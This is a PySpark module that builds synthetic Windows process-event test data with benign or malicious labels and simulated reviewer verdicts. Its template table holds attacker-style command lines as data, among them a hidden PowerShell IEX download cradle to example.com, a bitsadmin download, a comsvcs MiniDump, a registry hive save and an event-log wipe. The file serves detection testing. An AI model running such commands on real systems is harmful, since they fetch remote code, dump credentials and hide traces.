"""Process events derived from the ``events`` table.

The test tables hold no process events, so each row of ``events`` is mapped to one by integer
arithmetic on its id. The lists are fixed values shared with the comparison SQL.
"""

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from groundtrace import schema
from groundtrace.session import spread

# --- Fixed values: (image, command, label) per template -----------------------------------------
_SYS = "C:\\Windows\\System32\\"
_PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
TEMPLATES = (
    (_SYS + "cmd.exe", "cmd.exe /c dir C:\\Users", "benign"),
    (_PS, "powershell.exe -enc SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA==", "malicious"),
    (_PS, "powershell.exe -command Compress-Archive -Path C:\\Users\\pbeesly\\Documents\\FinancialReports\\* -DestinationPath C:\\Users\\pbeesly\\AppData\\Local\\Temp\\archive.zip", "malicious"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe", "malicious"),
    (_SYS + "notepad.exe", "notepad.exe C:\\Windows\\System32\\drivers\\etc\\hosts", "benign"),
    (_SYS + "cmd.exe", "cmd.exe /c tasklist /v", "malicious"),
    (_SYS + "cmd.exe", "net view \\\\fileserver", "malicious"),
    (_SYS + "icacls.exe", "icacls C:\\Users\\Default\\AppData\\Local\\Microsoft\\Windows\\INetCache /reset /t", "malicious"),
    (_SYS + "wbem\\WmiPrvSE.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe -Embedding", "malicious"),
    (_PS, "powershell.exe  Get-Process | Select-Object Name,Id,Path", "malicious"),
    (_SYS + "wscript.exe", "wscript.exe C:\\Users\\Public\\Downloads\\vbscript.vbs", "benign"),
    (_SYS + "cmd.exe", "cmd.exe /c wevtutil cl Application", "malicious"),
    (_SYS + "wbem\\wmic.exe", "wmic.exe /node:HOST1 /user:a /password:b process call create \"notepad.exe\"", "malicious"),
    (_SYS + "rundll32.exe", "rundll32.exe javascript:eval(String.fromCharCode(88))", "malicious"),
    (_SYS + "rundll32.exe", "rundll32.exe comsvcs.dll MiniDump", "malicious"),
    (_SYS + "reg.exe", "reg save HKLM\\X x.hiv", "malicious"),
    (_SYS + "sc.exe", "sc create svcx binPath= C:\\Temp\\x.exe", "malicious"),
    (_SYS + "certutil.exe", "certutil -decode in.txt out.txt", "malicious"),
    (_SYS + "bitsadmin.exe", "bitsadmin /transfer j http://example.com/a C:\\Temp\\a", "malicious"),
    (_SYS + "schtasks.exe", "schtasks /create /tn t /tr calc.exe /sc daily", "benign"),
    ("C:\\Users\\a\\AppData\\Local\\Temp\\powershell.exe", "powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -Command \"IEX (New-Object Net.WebClient).DownloadString('http://example.com/aaaaaaaaaaaaaaaaaaaa/bbbbbbbbbbbbbbbbbbbb/cccccccccccccccccccc/d')\"", "malicious"),
    (_PS, "powershell.exe \"[char]65+'b'.Replace('b','c').Replace('c','d').Replace('d','e') + 'f' + 'g'\"", "malicious"),
    (_SYS + "cmd.exe", "cmd /c /c echo %TEMP% && echo ${HOME} || echo `x`", "malicious"),
    (_SYS + "cmd.exe", "", "benign"),
    (_SYS + "cmd.exe", "cmd.exe /c echo %41%u0041 \\x41 0xDEADBEEF \\u0041 &#x41;", "malicious"),
    ("C:\\Tools\\pwsh.exe", "pwsh -File deploy.ps1", "benign"),
    (_PS, "Get-ADUser -Filter *", "benign"),
    (_SYS + "cmd.exe", "type c:\\\\users\\\\public\\\\a.txt c:\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts", "malicious"),
    (_SYS + "cmd.exe", "cmd.exe /c copy a.txt \\\\srv\\share\\\t   b.txt (", "benign"),
    ("C:\\Windows\\SysWOW64\\cmd.exe", "cmd.exe /c findstr -e word /s /i *.txt > C:\\temp\\o.txt", "benign"),
    (_SYS + "net.exe", "net use Z: \\\\srv\\share", "benign"),
    ("\\\\srv\\tools\\psexec.exe", "!!psexec \\\\HOST1 cmd.exe /c ping 10.0.0.1; tracert h", "malicious"),
)
# --- Fixed values: (User, Domain, AccountName), parents, integrity, techniques -------------------
ACCOUNTS = (
    ("CORP\\jsmith", "CORP", "jsmith"),
    ("DMEVALS\\pbeesly", "DMEVALS", "pbeesly"),
    ("NT AUTHORITY\\SYSTEM", "NT AUTHORITY", "SYSTEM"),
    ("NT AUTHORITY\\NETWORK SERVICE", "NT AUTHORITY", "NETWORK SERVICE"),
    ("CORP\\svc_admin", "CORP", "svc_admin"),
    (None, None, None),
)
PARENTS = ("C:\\Windows\\explorer.exe", _SYS + "cmd.exe", _SYS + "svchost.exe",
           _SYS + "userinit.exe", None)
PARENT_COMMANDS = ("C:\\Windows\\explorer.exe", "cmd.exe", "svchost.exe -k netsvcs", "userinit.exe",
                   None)
INTEGRITY = ("Low", "Medium", "High", "System", None)
TECHNIQUES = ("lateral_movement", "process_discovery", "defense_evasion", "")
REASONS = (
    "Standard system administration activity with no suspicious indicators.",
    "Encoded command hidden behind an unusual launch; possible remote download.",
    "Abnormal process spawned by a native binary, expected to execute an attack.",
    "Typical logon sequence, consistent with legitimate use.",
)
CONFIDENCES = ("high", "Medium", "low", "")
OPPOSITE_ABOVE = 150.0  # reviewer disagrees with the label where events.value exceeds this


def pick(values, index: Column) -> Column:
    """values[index]; the list is a folded literal, so no join is needed."""
    return F.element_at(F.array(*[F.lit(x) for x in values]), (index + 1).cast("int"))


READ = ("event_id", "ts", "event_type", "value")  # columns of ``events`` that a process event is made of


def raw_process_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One raw process event per row of ``events``, before spelling resolution.

    Every 7th image travels as SourceImage and every 11th command under its other spelling.
    """
    return as_process_events(spread(spark.read.parquet(f"{sf_dir}/events.parquet").select(*READ)))


def as_process_events(events: DataFrame) -> DataFrame:
    key = F.col("event_id")
    picked = events.select(
        key, "ts", "event_type", "value",
        (key % 32).alias("_t"),
        (F.floor(key / 32) % 6).alias("_a"),
        (F.floor(key / 192) % 5).alias("_p"),
        (F.floor(key / 960) % 5).alias("_i"),
    )
    image, command = pick([x[0] for x in TEMPLATES], F.col("_t")), pick(
        [x[1] for x in TEMPLATES], F.col("_t"))
    label = pick([x[2] for x in TEMPLATES], F.col("_t"))
    purchase = F.col("event_type") == "purchase"
    other = F.when(label == "benign", F.lit("malicious")).otherwise(F.lit("benign"))
    reviewer = F.struct(
        F.when(F.col("value") > OPPOSITE_ABOVE, other).otherwise(label).alias("predicted_label"),
        pick(REASONS, F.floor(key / 8) % 4).alias("reason"),
        pick(CONFIDENCES, F.floor(key / 4) % 4).alias("confidence"),
        pick(TECHNIQUES, F.floor(key / 16) % 4).alias("attack_technique"),
    )
    number = F.when(F.col("event_type") == "purchase", F.lit(3)).when(
        F.col("event_type") == "signup", F.lit(11)).otherwise(F.lit(1))
    columns = {
        "event_key": key,
        "EventID": number.cast("string"),
        "EventTime": F.date_format("ts", "yyyy-MM-dd HH:mm:ss"),
        "Hostname": F.concat(F.lit("HOST"), (key % 40).cast("string")),
        "SourceImage": F.when(key % 7 == 3, image),
        "Image": F.when(key % 7 != 3, image),
        "alt_commandLine": F.when(key % 11 == 5, command),
        "CommandLine": F.when(key % 11 != 5, command),
        "ParentImage": pick(PARENTS, F.col("_p")),
        "ParentCommandLine": pick(PARENT_COMMANDS, F.col("_p")),
        "ProcessId": (F.lit(1000) + key % 9000).cast("string"),
        "ParentProcessId": F.when(key % 3 != 0, (F.lit(400) + key % 600).cast("string")),
        "User": pick([x[0] for x in ACCOUNTS], F.col("_a")),
        "Domain": pick([x[1] for x in ACCOUNTS], F.col("_a")),
        "AccountName": pick([x[2] for x in ACCOUNTS], F.col("_a")),
        "IntegrityLevel": pick(INTEGRITY, F.col("_i")),
        "SourcePort": F.when(purchase, (F.lit(49152) + key % 1000).cast("string")),
        "DestinationPort": F.when(purchase, pick(["443", "80", "x"], key % 3)),
        "DestinationIp": F.when(purchase, F.concat(F.lit("10.0.0."), (key % 250).cast("string"))),
        "Protocol": F.when(purchase, F.lit("tcp")),
        schema.LABEL_FIELD: label,
        schema.TECHNIQUE_FIELD: pick(TECHNIQUES, key % 4),
        schema.SOURCE_FIELD: F.col("event_type"),
        schema.REVIEWER: F.when(key % 50 != 0, reviewer),
    }
    return picked.select(*[c.alias(n) for n, c in columns.items()])


def process_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Resolved, sanitised events with key, label, technique and reviewer verdict."""
    from groundtrace.operators.prepare import prepare_events

    raw = raw_process_events(spark, sf_dir).withColumn("label", F.col(schema.LABEL_FIELD))
    return prepare_events(raw, ("event_key", "label", schema.TECHNIQUE_FIELD, schema.REVIEWER))
